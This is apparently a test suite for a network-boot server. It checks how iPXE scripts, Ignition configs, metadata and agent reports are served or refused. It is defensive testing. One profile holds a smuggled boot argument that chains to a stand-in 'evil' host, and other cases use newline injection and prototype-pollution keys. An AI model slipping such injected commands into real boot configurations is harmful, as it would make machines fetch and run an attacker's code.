import { createLab, type Lab, type LabEvent, labNeeds } from "@railhead/testkit";
import { beforeAll, describe, expect, test } from "vitest";

const needs = labNeeds("curl", "git");

let lab: Lab;

const GOOD_IGNITION = `ignition:
  version: 3.3.0
storage:
  files:
    - path: /etc/hostname
      mode: 0o644
      contents:
        source: "data:,{{machine.name}}"
    - path: /etc/server
      contents:
        source: "data:,{{server.address}}-{{cluster.name}}-{{configRepo.ref}}-{{room}}"
`;
/** One machine for each way to go wrong; what it is called is also its case. */
const CASES: Readonly<Record<string, object>> = {
  good: {
    boot: { kernel: "/assets/vmlinuz", initrd: ["--name live /assets/live.img"], args: ["a=b", "c"] },
    ignition_id: "good.yaml",
  },
  "no-boot": { ignition_id: "good.yaml" },
  "no-ignition-id": { boot: { kernel: "/assets/vmlinuz" } },
  "no-ignition-file": { boot: { kernel: "/assets/vmlinuz" }, ignition_id: "missing.yaml" },
  "unknown-variable": { ignition_id: "unknown-variable.yaml" },
  "not-yaml": { ignition_id: "not-yaml.yaml" },
  "invalid-ignition": { ignition_id: "invalid.yaml" },
  "unknown-key": { ignition_id: "unknown-key.yaml" },
  "empty-ignition": { ignition_id: "empty.yaml" },
  "broken-raw": { ignition_id: "broken.ign" },
  "templated-boot": {
    templated: true,
    boot: { kernel: "{{server.url}}/k", args: ["name={{machine.name}}", "at=${next-server}"] },
  },
  "templated-unknown": { templated: true, boot: { kernel: "/k", args: ["{{server.urk}}"] } },
  braces: { boot: { kernel: "/k", args: ["{{server.url}}"] } },
  "line-break": { boot: { kernel: "/assets/vmlinuz", args: ["one\nchain http://evil/"] } },
};
const NAMES = [...Object.keys(CASES), "no-profile"];
const UNDECLARED = "52:54:00:99:00:fe";
const REPORTER = { machine: "good", mac: "52:54:00:99:00:00" };

function macOf(name: string): string {
  return `52:54:00:99:00:${NAMES.indexOf(name).toString(16).padStart(2, "0")}`;
}

function files(): Record<string, string | object> {
  const machines = NAMES.map((name) => [
    `data/machines/${name}.json`,
    { name, macs: [macOf(name)], role: "manager", labels: { case: name } },
  ]);
  const groups = NAMES.map((name) => [
    `data/groups/${name}.json`,
    { profile: name, selector: { case: name }, metadata: { room: "r7" } },
  ]);
  const profiles = Object.entries(CASES).map(([name, profile]) => [`data/profiles/${name}.json`, profile]);
  return {
    ...(Object.fromEntries([...machines, ...groups, ...profiles]) as Record<string, object>),
    // For nobody who is declared here: only somebody who asks for it could get it.
    "data/groups/gateways.json": { profile: "good", selector: { role: "gateway" } },
    "data/groups/by-name.json": { profile: "good", selector: { name: "good" }, metadata: { room: "r7" } },
    "data/ignition/good.yaml": GOOD_IGNITION,
    "data/ignition/unknown-variable.yaml":
      "ignition:\n  version: 3.3.0\nstorage:\n  files:\n    - path: /{{machine.rack}}\n",
    "data/ignition/not-yaml.yaml": "ignition: [\n",
    "data/ignition/invalid.yaml": "ignition:\n  version: 3.3.0\nstorage:\n  files:\n    - path: relative\n",
    "data/ignition/unknown-key.yaml": "ignition:\n  version: 3.3.0\nstorrage: {}\n",
    "data/ignition/empty.yaml": "# nothing\n",
    "data/ignition/broken.ign": '{"ignition":{"version":"3.3.0"',
  };
}

describe.skipIf(needs.skip)(`what a machine asks for over HTTP${needs.note}`, () => {
  beforeAll(async () => {
    lab = await createLab({ files: files(), clientAddress: "10.77.0.250/24" });
    return async () => lab[Symbol.asyncDispose]();
  });

  test.each(["/boot.ipxe", "/boot.ipxe.0"])(
    "%s makes iPXE ask again with its own facts, byte for byte",
    async (path) => {
      const facts =
        "uuid=${uuid}&mac=${mac:hexhyp}&domain=${domain}&hostname=${hostname}&serial=${serial}&arch=${buildarch:uristring}";
      expect(await lab.http(path)).toMatchObject({ status: 200, text: `#!ipxe\nchain ipxe?${facts}\n` });
    },
  );

  test.each([
    ["colons", "52:54:00:99:00:00"],
    ["hyphens, as iPXE writes it", "52-54-00-99-00-00"],
    ["upper case", "52-54-00-99-00-00".toUpperCase()],
    ["percent encoding", "52%3A54%3a00%3A99%3A00%3A00"],
  ])("/ipxe gives a machine its script, its MAC with %s", async (_how, mac) => {
    const script = "#!ipxe\nkernel /assets/vmlinuz a=b c\ninitrd --name live /assets/live.img\nboot\n";
    expect(await lab.http(`/ipxe?mac=${mac}&uuid=&serial=`)).toMatchObject({ status: 200, text: script });
  });

  test("/ignition gives a machine its own config, as JSON with the type that Ignition knows", async () => {
    const { status, headers, text } = await lab.http(`/ignition?mac=${macOf("good")}`);
    expect([status, headers["content-type"]]).toEqual([200, "application/vnd.coreos.ignition+json; charset=utf-8"]);
    expect(JSON.parse(text)).toEqual({
      ignition: { version: "3.3.0" },
      storage: {
        files: [
          { path: "/etc/hostname", mode: 0o644, contents: { source: "data:,good" } },
          { path: "/etc/server", contents: { source: "data:,10.77.0.1-lab-main-r7" } },
        ],
      },
    });
  });

  test("/metadata gives a machine its facts, a line each, the query's words among them and never as more than one line", async () => {
    const { status, text } = await lab.http(`/metadata?mac=${macOf("good")}&note=a%0aROLE=other`);
    expect(status).toBe(200);
    expect(text.split("\n")).toEqual(
      expect.arrayContaining([
        "MACHINE_NAME=good",
        "MACHINE_ROLE=manager",
        "ROOM=r7",
        "REQUEST_QUERY_NOTE=a\\nROLE=other",
      ]),
    );
  });

  test("what a machine says of itself does not stand over what is declared of it", async () => {
    const claimed = await lab.http(`/ipxe?mac=${macOf("no-boot")}&case=good&role=worker`);
    expect(claimed).toMatchObject({ status: 404, text: expect.stringMatching(/^no-boot: /) });
  });

  test.each<readonly [string, string, number, RegExp]>([
    [
      "a MAC that nobody has declared",
      "/ipxe?mac=52:54:00:99:00:fe",
      404,
      /^no-group: no group matches 52:54:00:99:00:fe\n$/,
    ],
    ["a MAC that nobody has declared", "/ignition?mac=52:54:00:99:00:fe", 404, /^no-group: /],
    ["a MAC that nobody has declared", "/metadata?mac=52:54:00:99:00:fe", 404, /^no-group: /],
    ["a role that an undeclared machine asks for", `/ignition?mac=${UNDECLARED}&role=gateway`, 404, /^no-group: /],
    ["a role that an undeclared machine asks for", `/ipxe?mac=${UNDECLARED}&role=gateway`, 404, /^no-group: /],
    ["a role that nobody in particular asks for", "/ignition?role=gateway", 404, /^no-group: /],
    ["a role that another machine asks for", `/metadata?mac=${macOf("no-profile")}&role=gateway`, 404, /^no-profile: /],
    ["a name that an undeclared machine asks for", `/ignition?mac=${UNDECLARED}&name=good`, 404, /^no-group: /],
    ["a MAC that is none", "/ipxe?mac=52:54:00:99:00", 400, /^bad-mac: /],
    ["a MAC that is none", "/ignition?mac=hello", 400, /^bad-mac: /],
    ["a MAC that is none", "/metadata?mac=52:54:00:99:00:zz", 400, /^bad-mac: /],
    ["an empty MAC, as iPXE without a card sends it", "/ignition?mac=", 400, /^bad-mac: /],
    ["a MAC that is none beside a UUID", "/ignition?mac=x&uuid=1", 400, /^bad-mac: /],
    ["no query at all", "/ignition", 404, /^no-group: /],
    ["no query at all", "/ipxe", 404, /^no-group: /],
    ["keys that every object has", "/ignition?__proto__=x&constructor=y", 404, /^no-group: /],
    ["percent signs that encode nothing", "/ipxe?mac=%zz", 400, /^bad-mac: /],
    [
      "a group whose profile is missing",
      `/ipxe?mac=${macOf("no-profile")}`,
      404,
      /^no-profile: group no-profile names the profile no-profile/,
    ],
    ["a group whose profile is missing", `/ignition?mac=${macOf("no-profile")}`, 404, /^no-profile: /],
    ["a profile without a boot section", `/ipxe?mac=${macOf("no-boot")}`, 404, /^no-boot: /],
    ["a profile without an Ignition config", `/ignition?mac=${macOf("no-ignition-id")}`, 404, /^no-ignition: /],
    [
      "a profile whose template is missing",
      `/ignition?mac=${macOf("no-ignition-file")}`,
      404,
      /^no-ignition: there is no ignition\/missing\.yaml/,
    ],
    [
      "a template with an unknown variable",
      `/ignition?mac=${macOf("unknown-variable")}`,
      500,
      /^template-failed: ignition\/unknown-variable\.yaml:5:\d+: .*machine\.rack/,
    ],
    ["a template that makes no YAML", `/ignition?mac=${macOf("not-yaml")}`, 500, /^ignition-invalid: .*not-yaml\.yaml/],
    [
      "a config with a relative path",
      `/ignition?mac=${macOf("invalid-ignition")}`,
      500,
      /^ignition-invalid: .*storage\.files\[0\]\.path/,
    ],
    [
      "a config with a key that is misspelt",
      `/ignition?mac=${macOf("unknown-key")}`,
      500,
      /^ignition-invalid: .*storrage/,
    ],
    ["a config that is empty", `/ignition?mac=${macOf("empty-ignition")}`, 500, /^ignition-invalid: /],
    [
      "a finished config that is cut off",
      `/ignition?mac=${macOf("broken-raw")}`,
      500,
      /^ignition-invalid: .*broken\.ign/,
    ],
    [
      "a boot section with an unknown variable",
      `/ipxe?mac=${macOf("templated-unknown")}`,
      500,
      /^template-failed: profiles\/templated-unknown\.json:\d+: boot\.args\.0:1:1: unknown variable "server\.urk"/,
    ],
    ["an argument with a line break", `/ipxe?mac=${macOf("line-break")}`, 500, /^template-failed: line break/],
  ])(
    "%s: %s is answered with %i and the reason, never with an empty or a default config",
    async (_what, path, status, body) => {
      const from = lab.server.events.length;
      const answer = await lab.http(path);
      expect([answer.status, answer.text]).toEqual([status, expect.stringMatching(body)]);
      expect(answer.headers["content-type"]).toBe("text/plain; charset=utf-8");
      await lab.server.waitForEvent(({ event, status: logged }) => event === "http.refused" && logged === status, {
        from,
      });
    },
  );

  test("a boot section is a template where its profile says so, and goes out byte for byte where it does not", async () => {
    expect((await lab.http(`/ipxe?mac=${macOf("templated-boot")}`)).text).toBe(
      "#!ipxe\nkernel http://10.77.0.1:8080/k name=templated-boot at=${next-server}\nboot\n",
    );
    expect((await lab.http(`/ipxe?mac=${macOf("braces")}`)).text).toBe("#!ipxe\nkernel /k {{server.url}}\nboot\n");
  });

  test("/healthz names what is dangling, each with its file and line", async () => {
    const { status, text } = await lab.http("/healthz");
    expect(status).toBe(200);
    expect(JSON.parse(text)).toMatchObject({
      status: "degraded",
      problems: {
        refused: [],
        dangling: [
          expect.stringMatching(/^groups\/no-profile\.json:\d+: profile: there is no profiles\/no-profile\.json$/),
          expect.stringMatching(
            /^profiles\/no-ignition-file\.json:\d+: ignition_id: there is no ignition\/missing\.yaml$/,
          ),
        ],
        failing: expect.arrayContaining([
          expect.stringMatching(/^ignition\/broken\.ign:1: /),
          expect.stringMatching(/^ignition\/unknown-variable\.yaml:5:\d+: .*\(for unknown-variable\)$/),
        ]),
      },
    });
  });

  test("the log never holds a config", () => {
    expect(JSON.stringify(lab.server.events)).not.toContain("/etc/hostname");
  });
});

describe.skipIf(needs.skip)(`what an agent reports${needs.note}`, () => {
  beforeAll(async () => {
    lab = await createLab({ files: files(), clientAddress: "10.77.0.250/24" });
    return async () => lab[Symbol.asyncDispose]();
  });

  const post = (body: string, contentType = "application/json") =>
    lab.http("/reports", { method: "POST", headers: { "content-type": contentType }, body });

  test.each<readonly [string, () => string, number]>([
    ["is no JSON", () => "{", 400],
    ["is empty", () => "", 400],
    ["is a list", () => "[]", 400],
    ["lacks its kind", () => JSON.stringify({ ...REPORTER }), 400],
    ["has a kind that is none", () => JSON.stringify(started({ kind: "run-paused" })), 400],
    ["is of a machine that is not declared", () => JSON.stringify(started({ machine: "core-99" })), 404],
    ["is of a MAC that is not declared", () => JSON.stringify(started({ mac: "52:54:00:99:00:fe" })), 404],
    ["is of one machine under another's name", () => JSON.stringify(started({ machine: "no-boot" })), 404],
    ["is larger than 256 KiB", () => JSON.stringify(started({ note: "x".repeat(300 * 1024) })), 413],
  ])("a report that %s is refused", async (_what, body, status) => {
    expect((await post(body())).status).toBe(status);
    expect(progress()).toEqual([]);
  });

  test.each([
    ["text/plain", 400],
    ["application/octet-stream", 415],
  ])("a report that calls itself %s is refused", async (contentType, status) => {
    expect((await post(JSON.stringify(started({})), contentType)).status).toBe(status);
  });

  test("reports that are good are taken with 204 and told as progress; what they say survives kill -9", async () => {
    const unit = { unit: "a.service", index: 1, total: 2 };
    const reports = [
      started({}),
      started({ sequence: 2, kind: "repo-synced", revision: "a".repeat(40), units: ["a.service", "b.service"] }),
      started({ sequence: 3, kind: "unit-started", ...unit }),
      started({ sequence: 4, kind: "unit-finished", ...unit, outcome: "active", seconds: 1 }),
    ];
    for (const report of reports) {
      const { status, text } = await post(JSON.stringify(report));
      expect([status, text]).toEqual([204, ""]);
    }
    await expect
      .poll(() => progress().map(({ stage }) => stage), { timeout: 10_000 })
      .toEqual(["agent", "agent", "unit", "unit"]);

    await lab.server.kill();
    await lab.startServer();
    // The server knows that it has heard this one before ...
    expect((await post(JSON.stringify(reports[3]))).status).toBe(204);
    expect(progress()).toEqual([]);
    // ... and goes on from there.
    const failed = { unit: "b.service", index: 2, total: 2, outcome: "failed", seconds: 1, reason: "it broke" };
    expect((await post(JSON.stringify(started({ sequence: 5, kind: "unit-finished", ...failed })))).status).toBe(204);
    const known = { machine: "good", revision: "a".repeat(40), unitsOk: 1, unitsTotal: 2, failedUnit: "b.service" };
    await expect.poll(progress, { timeout: 10_000 }).toEqual([expect.objectContaining(known)]);
  });
});

function progress(): readonly LabEvent[] {
  return lab.server.events.filter(({ event }) => event === "machine.progress");
}

/** An agent's first report, but for what is changed. */
function started(changes: object): object {
  return {
    ...REPORTER,
    bootId: "11111111-2222-4333-8444-555555555555",
    sequence: 1,
    at: "2026-01-01T00:00:00.000Z",
    agentVersion: "0.1.0",
    kind: "agent-started",
    role: "manager",
    repo: { url: "http://10.77.0.1:8080/git/config.git", ref: "main" },
    ...changes,
  };
}
